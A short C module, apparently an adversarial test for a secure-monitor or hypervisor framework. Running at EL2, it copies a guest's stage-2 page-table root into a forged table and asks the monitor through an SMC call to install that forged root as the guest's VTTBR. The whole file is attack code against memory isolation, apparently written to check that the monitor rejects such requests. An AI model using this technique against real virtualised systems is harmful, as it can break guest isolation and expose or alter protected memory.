/*
 * Asks the monitor for a stage-2 root that the attacker built himself. Runs at EL2.
 */
#include <rw/page_table.h>
#include <rw/sysreg.h>
#include <rw/tvmi_smc.h>
#include <rw/vmm_api.h>

#define VTTBR_VMID (0xffull << 48)

static uint64_t forged_root[PT_ENTRIES] __attribute__((aligned(RW_PAGE_SIZE)));

RW_MODULE_ENTRY int module_entry(const struct rw_vmm_api *api) {
  const struct rw_vmm_guest *guest = &api->guests[0];
  const uint64_t *root = (const uint64_t *)guest->stage2_root;
  for (unsigned i = 0; i < PT_ENTRIES; i++) forged_root[i] = root[i];
  dsb_ish();
  const uint64_t forged = (uint64_t)forged_root | (*guest->vttbr & VTTBR_VMID);
  return (int)rw_smc(RW_SMC_EL2_WRITE, RW_EL2_VTTBR, forged, 0);
}
